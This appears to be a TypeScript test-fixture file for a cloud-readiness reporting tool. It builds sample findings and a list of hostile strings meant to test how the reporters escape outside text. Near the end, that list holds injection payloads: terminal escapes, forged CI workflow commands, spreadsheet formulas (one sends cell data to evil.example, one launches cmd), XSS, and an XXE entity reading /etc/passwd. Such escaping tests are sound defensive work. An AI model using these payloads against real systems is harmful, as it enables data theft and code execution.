import {countStatuses} from '../../src/reporters/count.ts'
import type {Status} from '../../src/engine/finding.ts'
import {exitCodeOf, type Report, type ReportItem} from '../../src/reporters/report.ts'
import type {Drawing} from '../../src/reporters/style.ts'

/** An item of a report; `extra` says what is not as in every other. */
export const item = (id: string, status: Status, extra: Partial<ReportItem> = {}): ReportItem => ({
  id,
  step: id.slice(0, id.indexOf('.')),
  title: `Title of ${id}`,
  severity: 'high',
  source: 'plan',
  status,
  code: 'CODE',
  message: `Something is ${status}.`,
  blockedBy: [],
  evidence: [],
  hint: '',
  gcloud: [],
  docs: 'https://cloud.google.com/docs',
  console: '',
  controls: [],
  durationMs: 1,
  ...extra,
})

const override = {
  kind: 'waived',
  reason: 'accepted-risk',
  owner: 'jane@acme.example',
  until: '2027-03-31',
  note: '',
  stillNeeded: true,
  valid: true,
  remark: '',
}

const items: ReportItem[] = [
  item('project.exists', 'pass', {durationMs: 120}),
  item('network.vpc', 'fail', {
    title: 'The network is in custom mode',
    code: 'VPC_AUTO_MODE',
    message: 'The network makes subnetworks by itself.',
    evidence: [
      {
        resource: '//compute.googleapis.com/projects/acme-prod/global/networks/qlogic-prod-vpc',
        field: 'autoCreateSubnetworks',
        expected: 'false',
        actual: 'true',
        observedAt: '2026-01-01T00:00:00.500Z',
      },
    ],
    hint: 'qlogic setup network',
    controls: [{benchmark: 'CIS GCP', version: '4.0', id: '3.1'}],
  }),
  item('network.psa-connection', 'blocked', {
    blockedBy: ['network.vpc'],
    code: 'BLOCKED',
    message: 'It was not read, because it depends on network.vpc.',
  }),
  item('dns.domain', 'manual', {hint: 'qlogic explain dns.domain, then qlogic attest dns.domain --note "…"'}),
  item('dns.cloud-armor', 'fail', {severity: 'critical', override}),
  item('cicd.branch-deployment', 'manual', {
    override: {...override, kind: 'attested', reason: '', until: '', note: 'seen in the settings'},
  }),
  item('state.bucket', 'unknown', {
    severity: 'critical',
    code: 'UNKNOWN_PERMISSION',
    message: 'It could not be read: the permission storage.buckets.get is missing.',
    reason: {kind: 'permission', permission: 'storage.buckets.get'},
    hint: 'ask for storage.buckets.get on project acme-prod',
  }),
  item('config.no-default-secrets', 'fail', {
    title: 'No secret has a usable default',
    severity: 'critical',
    source: 'hardening',
    code: 'SECRETS_WITH_DEFAULT',
    message: 'Two secrets have a default that production would start with.',
    evidence: [
      {
        file: 'backend/app/core/config.py',
        line: 31,
        expected: 'no default, or one that a validator refuses outside development',
        actual: 'JWT_SECRET = "c…" (8 characters)',
      },
      {
        file: 'backend/app/core/config.py',
        line: 34,
        expected: 'no default, or one that a validator refuses outside development',
        actual: 'DB_PASSWORD = "p…" (8 characters)',
      },
    ],
    hint: 'Declare these fields as SecretStr without a default, so that a missing value stops the start; values for development belong in .env.',
    controls: [{benchmark: 'OWASP ASVS', version: '5.0.0', id: '13.3.1'}],
  }),
  item('containers.docker-non-root-user', 'fail', {
    title: 'Containers do not run as root',
    code: 'ROOT_USER',
    message: 'One of two images runs as root.',
    evidence: [
      {file: 'frontend app/Dockerfile', line: 12, expected: 'USER other than root', actual: 'no USER'},
      {file: 'backend/Dockerfile', line: 20, expected: 'USER other than root', actual: 'USER 10001:10001', holds: true},
    ],
    hint: 'Create a user in the last stage of each Dockerfile and write USER 10001:10001 before CMD.',
  }),
  item('containers.compose-db-port-not-exposed', 'warn', {
    severity: 'high',
    evidence: [{file: 'compose.yaml', line: 9, expected: 'no ports on the database', actual: '127.0.0.1:5432:5432'}],
    hint: 'Remove ports from the database service.',
  }),
  item('config.pool-budget', 'unknown', {
    code: 'UNKNOWN_DYNAMIC',
    message: 'It could not be determined without running the code. config.py:8: int(os.environ["POOL"])',
    reason: {kind: 'dynamic', detail: 'config.py:8: int(os.environ["POOL"])'},
    evidence: [{file: 'config.py', line: 8, expected: 'a number', actual: 'int(os.environ["POOL"])'}],
    hint: 'Look at it yourself.',
  }),
  item('containers.nginx-hsts', 'not_applicable', {code: 'NO_NGINX', message: 'There is no nginx.'}),
]

/** A report of these items. */
export const reportOf = (of: readonly ReportItem[]): Report => ({
  schemaVersion: 1,
  tool: {name: 'qlogic', version: '1.2.3'},
  project: {id: 'acme-prod', number: '42'},
  environment: 'prod',
  repo: {path: '.', commit: '0123456789abcdef0123456789abcdef01234567', dirty: false},
  identity: {principal: 'ops@acme.example', source: 'adc'},
  startedAt: '2026-01-01T00:00:00.000Z',
  finishedAt: '2026-01-01T00:00:01.500Z',
  durationMs: 1500,
  apiCalls: 7,
  summary: {
    total: of.length,
    ...countStatuses(of),
    not_built: 0,
    waived: of.filter((one) => one.override?.kind === 'waived').length,
    attested: of.filter((one) => one.override?.kind === 'attested').length,
    ready: exitCodeOf(of) === 0,
  },
  items: [...of],
})

/** One report with every status, both kinds of evidence and both kinds of override. */
export const report = reportOf(items)

/** Without colour, on 80 columns, in a workflow of a repository on GitHub. */
export const drawing: Drawing = {
  color: false,
  columns: 80,
  blob: 'https://github.com/acme/q-logic/blob/0123456789abcdef0123456789abcdef01234567',
  words: new Map([
    [
      'containers.docker-non-root-user',
      {
        why: 'Root in a container is close to root outside.',
        check: 'Every image must end as another user.',
        byHand: 'Write USER 10001:10001 before CMD.',
      },
    ],
  ]),
}

/** What an attacker would put into a file name, a resource name or a line of code. */
export const hostileTexts: readonly string[] = [
  'bad\u001b[2J\u001b]8;;https://evil.example\u0007name',
  '\u202egnp.exe\u2066\u200b\ufeff',
  'two\r\nlines\n::error::forged\n::stop-commands::x',
  '=HYPERLINK("https://evil.example?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+9)',
  '\t=1+1',
  '\uff1d1+1',
  '"; DROP, "quoted", ""',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  ']]>&amp;<!-- --><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '| cell | `code` **bold** [link](https://evil.example) ![i](https://evil.example/i.png)',
  '</details></summary>\n# heading\n- [ ] task',
  '@octocat #1 www.evil.example https://evil.example $x^2$',
  'a,b:c%0A%25::d',
  'lone \ud800 surrogate \uffff\ufffe\u0000\u0008\u000b',
  '[link](1) {0} {{1}} %s %d',
  'é漢字🎉',
  'x'.repeat(200_000),
]

/** A report with one failing item for each of these texts, everywhere that text from outside can stand. */
export const reportWith = (texts: readonly string[]): Report => {
  const made = reportOf(
    texts.map((text, index) =>
      item(`containers.item-${index}`, 'fail', {
        message: text,
        hint: text,
        evidence: [
          {file: `dir/${text}`, line: index + 1, expected: text, actual: text},
          {resource: `//run.googleapis.com/${text}`, field: text, expected: text, actual: text},
        ],
        override: {...override, reason: text, owner: text, note: text, valid: false, remark: text},
      }),
    ),
  )
  return {...made, project: {id: texts[0] ?? '', number: ''}, identity: {principal: texts[0] ?? '', source: 'adc'}}
}
